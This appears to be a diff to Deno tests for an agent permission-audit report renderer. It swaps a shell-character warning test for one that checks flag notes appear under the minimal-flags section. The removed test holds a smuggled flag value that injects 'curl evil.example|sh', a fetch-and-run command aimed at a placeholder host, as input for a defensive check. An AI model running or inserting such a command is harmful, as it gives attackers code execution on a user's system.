@@ -41,6 +41,7 @@ function report(entries: ReportEntry[], fields: Partial<AuditReport> = {}) {
     summary,
     minimalFlags: [],
     denoCommand: "deno run agent.ts",
+    flagNotes: [],
     policySnippet: {},
     ...fields,
   } satisfies AuditReport;
@@ -202,20 +203,28 @@ Deno.test("renderAuditText() names learn mode and an exit that was not the progr
   assert.match(text, /ended by timeout \(exit code 137\) after 30\.00 s/);
 });
 
-Deno.test("renderAuditText() warns before an unquoted command with shell characters", () => {
-  const flag = "--allow-read=./x;curl evil.example|sh";
+Deno.test("renderAuditText() prints each flag note under the minimal flags", () => {
+  const note =
+    "These flags grant everything the program tried, denied attempts included: drop what it should not have.";
   const text = renderAuditText(
     report([entry({ decision: "deny" })], {
-      minimalFlags: [flag],
-      denoCommand: `deno run ${flag} agent.ts`,
-    }),
-  );
-  assert.ok(text.includes("shell characters"));
-  assert.ok(text.includes("denied attempts included"));
-  assert.ok(
-    !renderAuditText(report([entry({})], {
       minimalFlags: ["--allow-read=./a.txt"],
-    })).includes("shell characters"),
+      flagNotes: [note],
+    }),
+    { color: false },
+  );
+  assert.ok(
+    section(text, "Minimal flags for plain deno run").join(" ").includes(
+      "denied attempts included",
+    ),
+  );
+  assert.ok(
+    !renderAuditText(
+      report([entry({})], {
+        minimalFlags: ["--allow-read=./a.txt"],
+      }),
+      { color: false },
+    ).includes("denied attempts included"),
   );
 });
 
